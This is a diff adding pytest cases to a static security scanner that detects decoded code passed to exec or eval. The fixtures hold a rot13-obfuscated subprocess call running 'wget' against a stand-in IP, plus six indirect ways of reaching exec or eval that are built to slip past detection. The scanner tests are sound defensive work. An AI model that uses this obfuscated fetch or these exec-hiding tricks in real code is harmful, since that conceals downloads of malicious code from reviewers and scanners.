@@ -5,6 +5,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from behaviour_files import SKILL_MD, analyse_file, chain, scan_errors, summary
 from security_corpus import write
 from skillgrade.rules import security
@@ -441,3 +443,35 @@ def test_a_helper_module_sending_its_own_token_where_the_caller_says_is_no_error
         ),
     }
     assert scan_errors(tmp_path, files) == set()
+
+
+@pytest.mark.parametrize(
+    "runner",
+    [
+        "go = operator.attrgetter('ev' + 'al')(builtins)\ngo(text)\n",
+        "go = {'fast': exec, 'slow': print}['fast']\ngo(text)\n",
+        "class Stage:\n    go = staticmethod(exec)\nStage.go(text)\n",
+        "go = lambda body: exec(body)\ngo(text)\n",
+        "(lambda body: eval(body))(text)\n",
+        "go = functools.partial(exec, text)\ngo()\n",
+    ],
+)
+def test_a_runner_reached_indirectly_runs_the_rot13_text_it_is_given(tmp_path: Path, runner: str) -> None:
+    source = (
+        "import builtins, codecs, functools, operator\n"
+        "text = codecs.decode(\"__vzcbeg__('fhocebprff').pnyy('jtrg -d uggc://203.0.113.44/o')\", 'rot13')\n" + runner
+    )
+    found = analyse_file(tmp_path, "scripts/stage.py", source, Language.PYTHON)
+    assert (Kind.EXEC_DECODED, "with codecs.decode") in summary(found)
+
+
+def test_a_lambda_and_a_table_of_harmless_functions_run_nothing(tmp_path: Path) -> None:
+    source = (
+        "import codecs, json\n"
+        "text = codecs.decode('nopq', 'rot13')\n"
+        "show = {'json': json.dumps, 'plain': str}['json']\n"
+        "fmt = lambda v: show({'v': v})\n"
+        "print(fmt(text))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/fmt.py", source, Language.PYTHON)
+    assert not [c for c in found if c.kind in (Kind.EXEC_DECODED, Kind.EXEC_DYNAMIC, Kind.EXEC_FETCHED)]
